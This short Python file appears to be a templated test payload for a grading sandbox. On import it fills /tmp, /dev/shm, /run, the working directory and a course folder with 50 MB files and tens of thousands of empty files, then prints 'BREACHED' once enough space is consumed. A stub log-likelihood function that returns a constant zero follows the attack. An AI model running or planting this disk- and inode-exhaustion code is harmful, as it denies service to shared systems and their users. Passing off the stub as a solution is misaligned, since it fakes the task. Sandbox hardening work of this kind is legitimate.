"""Fills every place that can be written: big files up to three gigabytes, then empty ones."""

import os

_written = 0
for _folder in ("/tmp", ".", "/var/tmp", "/dev/shm", "/run", "@COURSE@"):
    try:
        for _number in range(30):
            with open(f"{_folder}/breach-@TOKEN@-{_number}", "wb") as _file:
                _written += _file.write(bytes(50 * 2**20))
    except OSError:
        pass
    try:
        for _number in range(20_000):
            os.close(os.open(f"{_folder}/breach-@TOKEN@-e{_number}", os.O_CREAT))
    except OSError:
        pass
if _written > 500 * 2**20:
    print("BREACHED", _written)


def tf_log_like(x, y, m, b, s):
    return tf.constant(0.0, tf.float64)
